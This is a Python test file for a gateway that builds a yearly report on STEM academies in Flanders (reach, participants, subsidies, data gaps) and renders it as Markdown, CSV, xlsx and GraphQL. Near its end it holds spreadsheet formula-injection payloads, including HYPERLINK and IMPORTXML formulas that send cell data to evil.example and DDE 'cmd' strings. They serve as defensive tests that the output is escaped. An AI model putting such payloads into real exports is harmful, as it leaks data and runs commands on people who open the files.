"""The yearly report assembled from an in-memory fake of its port (`ReportSource`): reach per
province, participants per academy and quarter, recognition follow-up, the trend with new
and dropped municipalities, subsidies per role, and the gaps of a year with missing data;
written as Markdown, sectioned CSV and xlsx (read back); and `stem report`'s refusals."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import pairwise
from pathlib import Path

import httpx
import pytest
from graphql import GraphQLObjectType, get_named_type
from openpyxl import load_workbook

from gateway.adapters.registry import (
    AcademyRead,
    CompletenessRead,
    DecisionRead,
    FollowUpRead,
    MunicipalityRead,
    ReportRead,
)
from gateway.adapters.subsidy import (
    CallRead,
    ChangesRead,
    CoverageRead,
    NearAcademyRead,
    NotReachedRead,
    ProvinceCoverageRead,
    RunRead,
)
from gateway.adapters.upstreams import UpstreamError
from gateway.reporting.assemble import YearOutOfRange, build_report
from gateway.reporting.model import YearReport
from gateway.reporting.render import SECTION, render
from gateway.reporting.source import (
    CalendarSummaryRead,
    RunCallRead,
    RunDetailRead,
    RunLineRead,
    RunResultRead,
    SkippedRead,
    UsedParameterRead,
)
from gateway.reporting.tables import tables
from gateway.stem_cli import main as stem

TODAY = date(2026, 11, 28)
PLACES = {  # NIS code -> (name, province); Hasselt becomes 71072 in 2025
    "11001": ("Aartselaar", "Antwerpen"),
    "11004": ("Boechout", "Antwerpen"),
    "11005": ("Boom", "Antwerpen"),
    "71022": ("Hasselt", "Limburg"),
    "71016": ("Genk", "Limburg"),
}
REACHED = {  # year -> NIS codes reached
    2019: {"11001", "71016"},
    2020: {"11001", "11004", "71016"},
    2021: {"11004", "71016", "71022"},
    2022: {"11004", "11005"},
    2023: {"11001", "11004", "11005", "71016"},
}
ACADEMIES = {"a": "Codeclub", "b": "Robotlab", "c": "Natuurlab", "d": "Sterrenwacht"}
ALL_MONTHS = {f"{m:02d}": 3 for m in range(1, 13)}
EMPTY_SPRING = {**ALL_MONTHS, "04": 0, "05": 0, "06": 0}


# Q2b/c: Genk is not reached in 2022; Boechout is reached, so its follow-up stays out.
FOLLOW_UPS = {
    2022: [
        FollowUpRead(
            nis_code=nis,
            year=2022,
            reason=reason,
            explanation=explanation,
            initiative=initiative,
            author="VLAIO ops",
            recorded_at=datetime(2022, 11, 3, 9, tzinfo=UTC),
        )
        for nis, reason, explanation, initiative in (
            ("71016", "no_local_partner", "geen zaal\nvrij op woensdag", "netwerkdag Limburg"),
            ("11004", "low_demand", None, None),
        )
    ]
}


def _places(year: int) -> dict[str, tuple[str, str]]:
    return dict(PLACES) if year < 2025 else {"71072": ("Hasselt", "Limburg")}


class FakeSource:
    """The report's port, in memory; `down` makes every read fail as that service."""

    def __init__(self) -> None:
        self.down: str | None = None
        self.reads = 0

    def _read(self, service: str) -> None:
        self.reads += 1
        if self.down == service:
            raise UpstreamError(service)

    async def municipalities(self, year: int) -> list[MunicipalityRead]:
        self._read("registry")
        return [
            MunicipalityRead(nis_code=n, name_nl=name, province_nl=prov)
            for n, (name, prov) in _places(year).items()
        ]

    async def coverage(self, year: int) -> CoverageRead:
        self._read("subsidy")
        reached = REACHED.get(year, set())
        provinces: dict[str, tuple[list[str], list[str]]] = {}
        for nis, (_, prov) in _places(year).items():
            yes, no = provinces.setdefault(prov, ([], []))
            (yes if nis in reached else no).append(nis)
        return CoverageRead(
            year=year,
            reached=sum(len(y) for y, _ in provinces.values()),
            total=len(_places(year)),
            provinces=[
                ProvinceCoverageRead(
                    province=p,
                    reached=len(y),
                    total=len(y) + len(n),
                    reached_nis_codes=y,
                    not_reached_nis_codes=n,
                )
                for p, (y, n) in provinces.items()
            ],
        )

    async def not_reached(self, year: int) -> list[NotReachedRead]:
        self._read("subsidy")
        return [
            NotReachedRead(
                nis_code=n,
                name=name,
                province=prov,
                nearest_active_academies=[NearAcademyRead(academy_id="a", name=None, km=7.25)],
            )
            for n, (name, prov) in _places(year).items()
            if n not in REACHED.get(year, set())
        ]

    async def follow_ups(self, year: int) -> list[FollowUpRead]:
        self._read("registry")
        return FOLLOW_UPS.get(year, [])

    async def changes(self, from_year: int, to_year: int) -> ChangesRead:
        self._read("subsidy")
        before, after = REACHED.get(from_year, set()), REACHED.get(to_year, set())
        return ChangesRead(
            from_year=from_year,
            to_year=to_year,
            newly_reached=sorted(after - before),
            dropped=sorted(before - after),
        )

    async def calendar_summary(self, year: int) -> CalendarSummaryRead:
        self._read("activities")
        months = EMPTY_SPRING if year == 2020 else ALL_MONTHS
        return CalendarSummaryRead(
            year=year,
            activities=sum(months.values()),
            months=months,
            themes={"1.25.0.0.0": 20, "1.21.0.0.0": 10, "x.custom": 2},
            age_groups={"under_14": 25, "14_and_over": 5, "unknown": 0},
        )

    async def participant_reports(self, year: int) -> list[ReportRead]:
        self._read("registry")
        by_year: dict[int, list[tuple[str, int | None, int, int | None, int | None]]] = {
            2022: [
                ("a", None, 100, 60, 40),
                ("a", 1, 30, None, None),
                ("a", 2, 20, None, None),
                ("b", 1, 5, 5, 0),
                ("b", 3, 7, 6, 1),
            ],
            2023: [("a", None, 80, None, None), ("b", None, 9, None, None)],
        }
        rows = by_year.get(year, [])
        return [
            ReportRead(
                report_id=f"r{n}",
                academy_id=a,
                year=year,
                quarter=q,
                participants=p,
                under_14=u,
                from_14=f,
                reported_on=date(year + 1, 1, 10),
            )
            for n, (a, q, p, u, f) in enumerate(rows)
        ]

    async def completeness(self, year: int) -> CompletenessRead:
        self._read("registry")
        silent = ["c"] if year != 2023 else []
        return CompletenessRead(
            year=year,
            recognised=3 if year != 2023 else 2,
            reported=2,
            share=None,
            not_reported=silent,
        )

    async def academies(self, ids: Sequence[str]) -> dict[str, AcademyRead]:
        self._read("registry")
        return {i: AcademyRead(id=i, name=ACADEMIES[i]) for i in ids if i in ACADEMIES}

    async def recognised_on(self, day: date) -> list[DecisionRead]:
        self._read("registry")
        return [
            DecisionRead(
                academy_id=a,
                status=status,
                decided_on=date(2019, 1, 1),
                valid_from=date(2019, 1, 1),
                valid_until=date(2027, 1, 1),
            )
            for a, status in (("a", "recognised"), ("b", "recognised"), ("c", "renewed"))
        ]

    async def reviews_due(self, before: date) -> list[DecisionRead]:
        self._read("registry")
        due = [("d", date(2022, 3, 31)), ("c", date(2023, 6, 30))]
        return [
            DecisionRead(
                academy_id=a,
                status="recognised",
                decided_on=date(2020, 1, 1),
                valid_from=date(2020, 1, 1),
                valid_until=until,
            )
            for a, until in due
            if until < before
        ]

    async def calls(self, year: int) -> list[CallRead]:
        self._read("subsidy")
        if year != 2023:
            return []
        return [
            CallRead(call_id="uitrollers_2023", year=2023, role="uitroller", source="V12"),
            CallRead(call_id="gangmakers_2023", year=2023, role="gangmaker", source="V12"),
        ]

    async def runs(self, year: int) -> list[RunRead]:
        self._read("subsidy")
        if year != 2023:
            return []
        return [
            RunRead(run_id=r, year=2023, created_at=at, trigger="t", rules_version="v")
            for r, at in (("old", "2024-01-01T00:00:00"), ("new", "2024-02-01T00:00:00"))
        ]

    async def run(self, run_id: str) -> RunDetailRead | None:
        self._read("subsidy")
        lines = [("a", "1500"), ("a", "1500"), ("b", "1500")] if run_id == "new" else []
        # Each paid place names its traject (issue 15): "b" is paid twice on one traject.
        acts = {0: "act-1", 1: "act-2", 2: "act-2"}
        return RunDetailRead(
            run_id=run_id,
            year=2023,
            created_at="2024-02-01T00:00:00",
            result=RunResultRead(
                calls=[
                    RunCallRead(
                        call_id="uitrollers_2023",
                        role="uitroller",
                        lines=[
                            RunLineRead(
                                academy_id=a,
                                role="uitroller",
                                call_id="uitrollers_2023",
                                paid=Decimal(p),
                                activity_ids=[acts[n]],
                                trajecten=[f"traject {acts[n]}: 2 sessions held"],
                            )
                            for n, (a, p) in enumerate(lines)
                        ],
                    )
                ],
                skipped=[SkippedRead(call_id="gangmakers_2023", missing=["grant_per_academy"])],
                parameters=[
                    UsedParameterRead(
                        name="stem/recognition/min_sessions_per_traject", value=2, status="inferred"
                    )
                ],
            ),
        )


async def report(year: int, source: FakeSource | None = None) -> YearReport:
    return await build_report(source or FakeSource(), year, today=TODAY)


async def test_reach_per_province_with_the_lists_and_the_nearest_academies() -> None:
    found = (await report(2022)).reach
    expected = {
        prov: sorted(name for n, (name, p) in PLACES.items() if p == prov and n in REACHED[2022])
        for prov in ("Antwerpen", "Limburg")
    }
    assert [p.province for p in found.provinces] == ["Antwerpen", "Limburg"]
    assert {p.province: [m.name for m in p.reached] for p in found.provinces} == expected
    assert (found.reached, found.total) == (len(REACHED[2022]), len(PLACES))
    assert found.share == round(len(REACHED[2022]) / len(PLACES), 4)
    limburg = found.provinces[1]
    assert [m.name for m in limburg.not_reached] == ["Genk", "Hasselt"]
    # The subsidy service gave no name for the nearest academy: the registry's is used.
    assert [(a.name, a.km) for a in limburg.not_reached[0].nearest] == [("Codeclub", 7.25)]


async def test_participants_per_academy_year_and_quarter_with_completeness() -> None:
    people = (await report(2022)).participants
    by_id = {a.academy_id: a for a in people.academies}
    a, b, c = by_id["a"], by_id["b"], by_id["c"]
    assert (a.participants, a.from_quarters, a.quarters, a.first_half) == (
        100,
        False,
        (30, 20, None, None),
        50,
    )
    assert (a.under_14, a.from_14) == (60, 40)
    # No whole-year report: the sum of its quarters, and its split summed too.
    assert (b.participants, b.from_quarters, b.first_half, b.under_14, b.from_14) == (
        12,
        True,
        None,
        11,
        1,
    )
    assert (c.reported, c.name) == (False, "Natuurlab")
    assert [x.academy_id for x in people.academies] == ["a", "b", "c"]
    assert (people.recognised, people.reported, people.share) == (3, 2, 0.6667)
    assert (people.total, people.quarter_total(1), people.quarter_reporters(1)) == (112, 35, 2)


async def test_recognition_states_and_reviews_due_overdue_or_not() -> None:
    found = await report(2022)
    rec = found.recognition
    assert rec.on == date(2022, 12, 31)
    assert [(c.key, c.count) for c in rec.states] == [("recognised", 2), ("renewed", 1)]
    assert [(d.name, d.overdue) for d in rec.reviews_due] == [("Sterrenwacht", True)]
    later = (await report(2023)).recognition
    assert [(d.academy_id, d.overdue) for d in later.reviews_due] == [("d", True), ("c", True)]


async def test_trend_since_2019_with_newly_reached_and_dropped() -> None:
    trend = (await report(2023)).trend
    assert [t.year for t in trend] == [2019, 2020, 2021, 2022, 2023]
    assert [t.reached for t in trend] == [len(REACHED[y]) for y in range(2019, 2024)]
    assert trend[0].newly_reached is None and trend[0].dropped is None
    for before, t in pairwise(trend):
        assert {p.nis_code for p in t.newly_reached or ()} == REACHED[t.year] - REACHED[before.year]
        assert {p.nis_code for p in t.dropped or ()} == REACHED[before.year] - REACHED[t.year]
    assert [p.name for p in trend[3].dropped or ()] == ["Genk", "Hasselt"]
    assert trend[1].empty_months == (4, 5, 6) and trend[2].empty_months == ()
    assert [(c.label, c.count) for c in trend[0].themes] == [
        ("Wetenschap", 20),
        ("Computer en techniek", 10),
        ("x.custom", 2),
    ]
    # Age groups in their fixed order, zero counts left out.
    assert [c.key for c in trend[0].age_groups] == ["under_14", "14_and_over"]


async def test_subsidies_per_role_from_the_latest_run() -> None:
    subs = (await report(2023)).subsidies
    assert subs.run_id == "new" and subs.rules_known
    assert [(t.role, t.academies, t.paid_eur) for t in subs.per_role] == [
        ("uitroller", 2, Decimal(4500))
    ]
    assert [(s.name, s.paid_eur) for s in subs.lines] == [
        ("Codeclub", Decimal(3000)),
        ("Robotlab", Decimal(1500)),
    ]
    assert [(c.call_id, c.calculated, c.missing) for c in subs.calls] == [
        ("uitrollers_2023", True, ()),
        ("gangmakers_2023", False, ("grant_per_academy",)),
    ]
    # The traject rule and what rests on it (issue 15, ADR 0013).
    assert "only where a STEM-traject was held (at least 2 sessions" in subs.note
    assert "2 trajecten made 3 places payable." in subs.note
    unknown = (await report(2022)).subsidies
    assert (unknown.rules_known, unknown.lines, unknown.calls) == (False, (), ())
    assert "No subsidy call is known for 2022" in unknown.note


async def test_a_year_with_missing_data_says_what_is_missing() -> None:
    found = await report(2020)
    kinds = {g.kind: g.message for g in found.gaps}
    assert not found.complete
    assert set(kinds) == {"activities_missing", "participants_missing", "rules_unknown"}
    assert "April, May, June 2020" in kinds["activities_missing"]
    assert "1 of 3 recognised academies" in kinds["participants_missing"]
    assert "Natuurlab" in kinds["participants_missing"]
    # 2023: every month has activities and every recognised academy reported; one call's
    # parameters are unknown, and that is the only gap.
    complete = await report(2023)
    assert [(g.kind, g.message) for g in complete.gaps] == [
        ("rules_unknown", "Call gangmakers_2023 (gangmaker): unknown: grant_per_academy.")
    ]


async def test_an_open_year_says_so_and_counts_only_the_months_over() -> None:
    found = await build_report(FakeSource(), 2026, today=date(2026, 3, 15))
    assert not found.closed and found.recognition.on == date(2026, 3, 15)
    assert found.gaps[0].kind == "year_not_closed"
    assert found.trend[-1].empty_months == ()  # Jan and Feb have activities; March is not over
    assert "no_reach" in {g.kind for g in found.gaps}


@pytest.mark.parametrize("year", [2018, 2027])
async def test_a_year_out_of_range_is_refused_before_any_read(year: int) -> None:
    source = FakeSource()
    with pytest.raises(YearOutOfRange, match="from 2019 to 2026"):
        await build_report(source, year, today=TODAY)
    assert source.reads == 0


async def test_a_service_down_fails_the_report_naming_it() -> None:
    source = FakeSource()
    source.down = "activities"
    with pytest.raises(UpstreamError, match="the activities service is unavailable"):
        await build_report(source, 2022, today=TODAY)


async def _report(year: int) -> YearReport:
    return await build_report(FakeSource(), year, today=TODAY)


def sections(text: str) -> dict[str, list[list[str]]]:
    """Sectioned CSV -> key -> [header, *rows]."""
    found: dict[str, list[list[str]]] = {}
    current: list[list[str]] = []
    for row in csv.reader(io.StringIO(text)):
        if row and row[0] == SECTION:
            current = found.setdefault(row[1], [])
        elif row:
            current.append(row)
    return found


async def test_the_sectioned_csv_holds_every_section_with_its_figures() -> None:
    report = await _report(2022)
    found = sections(render(report, "csv").decode())
    assert list(found) == [t.key for t in tables(report)]
    header, *rows = found["reach_by_province"]
    assert header == ["province", "reached", "total", "share"]
    flanders = rows[-1]
    assert flanders[:3] == ["Flanders", str(len(REACHED[2022])), str(len(PLACES))]
    reached = {r[1] for r in found["reached"][1:]}
    assert reached == REACHED[2022]
    participants = {r[0]: r for r in found["participants"][1:]}
    assert participants["b"][2:4] == ["12", "yes"] and participants["c"][-1] == "no"
    gaps = {r[0] for r in found["gaps"][1:]}
    assert gaps == {g.kind for g in report.gaps}
    trend = {r[0]: r for r in found["trend"][1:]}
    assert trend["2020"][7] == "04,05,06"


async def test_the_workbook_has_one_sheet_per_section() -> None:
    report = await _report(2023)
    book = load_workbook(io.BytesIO(render(report, "xlsx")), read_only=True)
    assert book.sheetnames == [t.key for t in tables(report)]
    rows = list(book["subsidies_by_role"].iter_rows(values_only=True))
    assert rows == [("role", "academies", "paid_eur"), ("uitroller", 2, 4500)]
    trend = list(book["trend"].iter_rows(values_only=True))
    assert [r[1] for r in trend[1:]] == [len(REACHED[y]) for y in range(2019, 2024)]


async def test_markdown_says_when_data_is_missing_and_lists_the_municipalities() -> None:
    text = render(await _report(2020), "md").decode()
    assert text.startswith("# Stand van zaken STEM-academies 2020")
    assert "**Incomplete data for 2020.**" in text
    assert "April, May, June 2020" in text
    assert "- **Antwerpen** (2): Aartselaar, Boechout" in text
    assert "| **Flanders** | 3 | 5 | 60.0 % |" in text
    with pytest.raises(ValueError, match="unknown format"):
        render(await _report(2020), "pdf")


async def test_the_follow_up_of_municipalities_not_reached_and_the_count_without() -> None:
    found = await _report(2022)
    assert [(f.name, f.province, f.reason, f.initiative) for f in found.follow_ups] == [
        ("Genk", "Limburg", "no_local_partner", "netwerkdag Limburg")
    ]
    assert found.not_followed_up == 2  # Aartselaar and Hasselt: nothing recorded
    text = render(found, "md").decode()
    assert "1 municipalities not reached have a follow-up recorded; 2 have nothing" in text
    assert (
        "| Limburg | 71016 | Genk | no_local_partner | geen zaal vrij op woensdag | "
        "netwerkdag Limburg | - | VLAIO ops | 2022-11-03 |"
    ) in text
    assert "Boechout | low_demand" not in text  # reached in 2022
    rows = sections(render(found, "csv").decode())
    assert rows["follow_up"][1][:4] == ["Limburg", "71016", "Genk", "no_local_partner"]
    assert ["not_reached_without_follow_up", "2"] in rows["summary"]
    assert (await _report(2021)).follow_ups == ()


async def test_a_follow_up_text_never_runs_as_a_formula() -> None:
    source = FakeSource()
    hostile = FOLLOW_UPS[2022][0].model_copy(update={"initiative": '=HYPERLINK("x")'})
    source.follow_ups = lambda year: _value([hostile])  # type: ignore[method-assign]
    found = await report(2022, source)
    rows = sections(render(found, "csv").decode())
    assert rows["follow_up"][1][5] == '\'=HYPERLINK("x")'
    sheet = load_workbook(io.BytesIO(render(found, "xlsx")))["follow_up"]
    assert sheet["F2"].value == '\'=HYPERLINK("x")'
    assert sheet["F2"].data_type == "s"


async def _value(found: list[FollowUpRead]) -> list[FollowUpRead]:
    return found


def test_stem_report_refuses_a_year_out_of_range(capsys: pytest.CaptureFixture[str]) -> None:
    assert stem.main(["report", "--year", "2018"]) == 2
    assert "choose a year from 2019" in capsys.readouterr().err


def test_stem_report_names_the_service_that_does_not_answer(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with socket.socket() as sock:  # a port that nothing listens on
        sock.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{sock.getsockname()[1]}"
    for name in ("REGISTRY", "ACTIVITIES", "SUBSIDY"):
        monkeypatch.setenv(f"GATEWAY_{name}_URL", closed)
    assert stem.main(["report", "--year", "2022", "--format", "csv"]) == 3
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "stem report 2022: trend 2019" in captured.err  # progress came first
    assert f"the registry service is unavailable at {closed} (GATEWAY_REGISTRY_URL)" in (
        captured.err
    )


FULL_REPORT = """{ report(year: 2022) { year generatedOn closed complete gaps { kind message }
  reach { reached total share provinces { province reached total share
    reachedMunicipalities { nisCode name }
    notReached { nisCode name nearestAcademies { academyId name km } } } }
  participants { recognised reported share total quarterTotals
    academies { academyId name participants fromQuarters quarters firstHalf under14 from14 } }
  recognition { on states { key count } recognised { academyId name status validUntil }
    reviewsDue { academyId name status validUntil overdue } }
  trend { year reached total share newlyReached { nisCode name } dropped { nisCode name }
    activities emptyMonths themes { key label count } ageGroups { key label count } }
  subsidies { rulesKnown runId illustrative note calls { callId role calculated missing }
    perRole { role academies paidEur } lines { academyId name role callId paidEur } } } }"""


def test_the_whole_report_costs_its_typical_sizes_and_fits_the_limit() -> None:
    from graphql import parse

    from gateway.config import Settings
    from gateway.domain.cost import query_cost
    from gateway.graphql_api.protection import LIST_SIZES
    from gateway.graphql_api.query import schema
    from gateway.reporting.report_field import LIST_SIZES as REPORT_SIZES

    assert REPORT_SIZES.items() <= LIST_SIZES.items()
    cost = query_cost(schema._schema, parse(FULL_REPORT), list_sizes=LIST_SIZES)
    # 5 provinces x (1 + 69 reached + 69 x (1 + 3 nearest)) dominate the figure.
    assert 5 * (1 + 69 + 69 * 4) < cost <= Settings().max_query_cost
    small = query_cost(schema._schema, parse("{ report(year: 2022) { year } }"))
    assert small < cost


async def test_graphql_report_gives_the_assembled_figures(
    gateway: httpx.AsyncClient, ops_token: str
) -> None:
    headers = {"Authorization": f"Bearer {ops_token}"}
    response = await gateway.post("/graphql", json={"query": FULL_REPORT}, headers=headers)
    body = response.json()
    assert "errors" not in body, body
    found = body["data"]["report"]
    # The conftest fakes: 2 of 3 municipalities reached, one run without lines, one call.
    assert (found["reach"]["reached"], found["reach"]["total"]) == (2, 3)
    assert [p["province"] for p in found["reach"]["provinces"]] == [
        "Antwerpen",
        "Limburg",
        "Oost-Vlaanderen",
    ]
    assert [t["year"] for t in found["trend"]] == [2019, 2020, 2021, 2022]
    assert found["trend"][0]["newlyReached"] is None
    assert found["subsidies"]["calls"] == [
        {"callId": "call-1", "role": "uitroller", "calculated": False, "missing": []}
    ]
    assert {g["kind"] for g in found["gaps"]} == {"participants_missing", "not_calculated"}
    assert response.json()["extensions"]["cost"]["requested"] > 1000


async def test_graphql_gives_ops_the_recorded_follow_ups_of_a_year(
    gateway: httpx.AsyncClient, ops_token: str
) -> None:
    headers = {"Authorization": f"Bearer {ops_token}"}
    query = (
        "{ y2024: municipalityFollowUps(year: 2024) { nisCode reason explanation initiative "
        "noInitiativeReason author recordedAt } y2023: municipalityFollowUps(year: 2023) "
        "{ nisCode } }"
    )
    body = (await gateway.post("/graphql", json={"query": query}, headers=headers)).json()
    assert "errors" not in body, body
    assert body["data"]["y2024"] == [
        {
            "nisCode": "71022",
            "reason": "no_local_partner",
            "explanation": "geen zaal vrij",
            "initiative": "netwerkdag Limburg",
            "noInitiativeReason": None,
            "author": "VLAIO ops",
            "recordedAt": "2024-10-01T09:00:00+00:00",
        }
    ]
    assert body["data"]["y2023"] == []


async def test_graphql_report_gives_the_follow_ups_of_the_municipalities_not_reached(
    gateway: httpx.AsyncClient, ops_token: str
) -> None:
    headers = {"Authorization": f"Bearer {ops_token}"}
    query = (
        "{ y2024: report(year: 2024) { notReachedWithoutFollowUp followUps { nisCode name "
        "province reason explanation initiative noInitiativeReason author recordedOn } } "
        "y2023: report(year: 2023) { notReachedWithoutFollowUp followUps { nisCode } } }"
    )
    body = (await gateway.post("/graphql", json={"query": query}, headers=headers)).json()
    assert "errors" not in body, body
    assert body["data"]["y2024"] == {
        "notReachedWithoutFollowUp": 0,
        "followUps": [
            {
                "nisCode": "71022",
                "name": "Hasselt",
                "province": "Limburg",
                "reason": "no_local_partner",
                "explanation": "geen zaal vrij",
                "initiative": "netwerkdag Limburg",
                "noInitiativeReason": None,
                "author": "VLAIO ops",
                "recordedOn": "2024-10-01",
            }
        ],
    }
    assert body["data"]["y2023"] == {"notReachedWithoutFollowUp": 1, "followUps": []}


async def test_graphql_report_refuses_a_year_out_of_range(
    gateway: httpx.AsyncClient, ops_token: str
) -> None:
    headers = {"Authorization": f"Bearer {ops_token}"}
    query = "{ report(year: 2018) { year } }"
    body = (await gateway.post("/graphql", json={"query": query}, headers=headers)).json()
    assert body["data"] == {"report": None}
    (error,) = body["errors"]
    assert error["extensions"]["code"] == "BAD_USER_INPUT"
    assert error["message"].startswith("no report for 2018: choose a year from 2019")


# Spreadsheet formula injection (issue 17): text that reaches `stem report --format csv|xlsx`
# from outside (academy names from the registry, UiTdatabank theme ids through activities) is
# written so that no spreadsheet runs it: OWASP's leading `'` before `= + - @`, tab and CR; in
# the workbook every text cell a string (data type `s`), numbers still numbers.

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
HOSTILE_THEME = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'


class HostileSource(FakeSource):
    """The report's fake port with academy names and a theme id an attacker chose."""

    async def academies(self, ids: Sequence[str]) -> dict[str, AcademyRead]:
        names = dict(zip(sorted(ACADEMIES), HOSTILE.values(), strict=False))
        return {i: AcademyRead(id=i, name=names[i]) for i in ids if i in names}

    async def calendar_summary(self, year: int) -> CalendarSummaryRead:
        return CalendarSummaryRead(
            year=year,
            activities=36,
            months=ALL_MONTHS,
            themes={HOSTILE_THEME: 30, "1.25.0.0.0": 6},
            age_groups={"under_14": 36},
        )


def _hostile_names() -> list[str]:
    return list(HOSTILE.values())[: len(ACADEMIES)]


async def test_the_csv_prefixes_every_formula_starter_with_a_quote() -> None:
    report = await build_report(HostileSource(), 2022, today=TODAY)
    cells = [c for row in csv.reader(io.StringIO(render(report, "csv").decode())) for c in row]

    for name in _hostile_names():
        assert name not in cells  # never as given, at the start of a cell
        assert "'" + name in cells
    assert "'" + HOSTILE_THEME in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # Our own numbers are untouched.
    assert "2022" in cells and "36" in cells


async def test_the_workbook_holds_hostile_text_as_quoted_strings_and_numbers_as_numbers() -> None:
    report = await build_report(HostileSource(), 2022, today=TODAY)
    book = load_workbook(io.BytesIO(render(report, "xlsx")))

    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    text = [c for c in cells if isinstance(c.value, str)]
    assert {c.data_type for c in text} == {"s"}
    values = {c.value for c in text}
    for name in _hostile_names():
        assert "'" + name in values
    assert "'" + HOSTILE_THEME in values
    themes = list(book["themes"].iter_rows(min_row=2, values_only=True))
    assert (2022, "'" + HOSTILE_THEME, "'" + HOSTILE_THEME, 30) in themes
    assert all(isinstance(n, int) for *_, n in themes)


async def test_a_name_with_control_characters_still_gives_a_workbook() -> None:
    class BellSource(FakeSource):
        async def academies(self, ids: Sequence[str]) -> dict[str, AcademyRead]:
            return {i: AcademyRead(id=i, name=f"Lab\x07{i}\x1b") for i in ids}

    report = await build_report(BellSource(), 2022, today=date(2026, 11, 28))
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    names = {r[1] for r in book["participants"].iter_rows(min_row=2, values_only=True)}
    assert "Laba" in names


# Characterization (issue 20): every render of realistic reports, byte for byte (Markdown,
# CSV) or cell for cell (xlsx: value, type, bold, widths), and the GraphQL answer with every
# field of `YearReport`, as committed in report_golden/. Regenerate only on purpose:
# STEM_UPDATE_REPORT_GOLDEN=1, then review the diff.

GOLDEN = Path(__file__).parent / "report_golden"
GOLDEN_YEARS = (2020, 2022, 2023, 2026)  # gaps and empty months, follow-ups, subsidies, open


def _golden(name: str, found: str) -> None:
    path = GOLDEN / name
    if os.environ.get("STEM_UPDATE_REPORT_GOLDEN") == "1":
        path.parent.mkdir(exist_ok=True)
        path.write_text(found, encoding="utf-8")
    assert path.read_text(encoding="utf-8") == found, f"{name} changed"


def _xlsx_dump(body: bytes) -> str:
    book = load_workbook(io.BytesIO(body))
    lines = []
    for sheet in book.worksheets:
        widths = {k: v.width for k, v in sorted(sheet.column_dimensions.items())}
        lines.append(f"## {sheet.title} freeze={sheet.freeze_panes} widths={widths}")
        for row in sheet.iter_rows():
            lines.append(repr([(c.value, c.data_type, bool(c.font.b)) for c in row]))
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("year", GOLDEN_YEARS)
async def test_every_render_of_the_report_is_unchanged(year: int) -> None:
    found = await report(year)
    _golden(f"{year}.md", render(found, "md").decode())
    _golden(f"{year}.csv", render(found, "csv").decode())
    _golden(f"{year}.xlsx.txt", _xlsx_dump(render(found, "xlsx")))


def _selection(kind: GraphQLObjectType, depth: int = 0) -> str:
    """Every field of `kind`, recursively: the whole report in one query."""
    parts = []
    for name, field in kind.fields.items():
        inner = get_named_type(field.type)
        sub = f" {_selection(inner, depth + 1)}" if isinstance(inner, GraphQLObjectType) else ""
        parts.append(name + sub)
    return "{ " + " ".join(parts) + " }"


def _whole_report_query(year: int) -> str:
    from gateway.graphql_api.query import schema

    kind = schema._schema.type_map["YearReport"]
    assert isinstance(kind, GraphQLObjectType)
    return f"{{ report(year: {year}) {_selection(kind)} }}"


async def test_the_graphql_report_answer_is_unchanged(
    gateway: httpx.AsyncClient, ops_token: str
) -> None:
    """The conftest's upstreams, read over HTTP: the whole answer (the day made fixed)."""
    headers = {"Authorization": f"Bearer {ops_token}"}
    query = _whole_report_query(2022)
    body = (await gateway.post("/graphql", json={"query": query}, headers=headers)).json()
    assert "errors" not in body, body
    body["data"]["report"]["generatedOn"] = "<today>"
    _golden("graphql_2022_upstreams.json", json.dumps(body["data"], indent=1) + "\n")


@pytest.mark.parametrize("year", (2022, 2023))
async def test_the_graphql_answer_of_a_realistic_report_is_unchanged(
    year: int, gateway: httpx.AsyncClient, ops_token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The richer in-memory port (`FakeSource`) behind the gateway: every field of the answer."""
    import gateway.reporting.report_field as yearly

    monkeypatch.setattr(yearly, "HttpReportSource", lambda upstreams: FakeSource())
    headers = {"Authorization": f"Bearer {ops_token}"}
    query = _whole_report_query(year)
    body = (await gateway.post("/graphql", json={"query": query}, headers=headers)).json()
    assert "errors" not in body, body
    body["data"]["report"]["generatedOn"] = "<today>"
    _golden(f"graphql_{year}.json", json.dumps(body["data"], indent=1) + "\n")
